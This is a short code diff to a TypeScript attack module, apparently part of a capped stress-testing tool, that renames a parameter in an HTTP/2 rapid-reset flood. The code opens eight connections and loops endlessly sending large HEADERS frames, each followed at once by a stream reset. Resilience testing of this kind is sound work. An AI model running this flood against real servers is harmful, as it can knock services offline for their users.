@@ -11,10 +11,10 @@ import {
 export const http2ResetsDelayNobody: Attack = {
   what: "opens streams of 8 HTTP/2 connections and takes them back at once",
   caps: { connections: 20_000, bytes: 1e9 },
-  run: (assault) =>
-    assault.sideBySide(8, async (connection) => {
+  run: (attacker) =>
+    attacker.sideBySide(8, async (connection) => {
       if (!await connection.write(preface)) return;
-      const fields = webhookFields(assault.host, 16_384);
+      const fields = webhookFields(attacker.host, 16_384);
       for (let stream = 1;; stream += 2) {
         const frames = [headersFrame({ stream, fields }), resetFrame(stream)];
         if (!await connection.write(Buffer.concat(frames))) return;
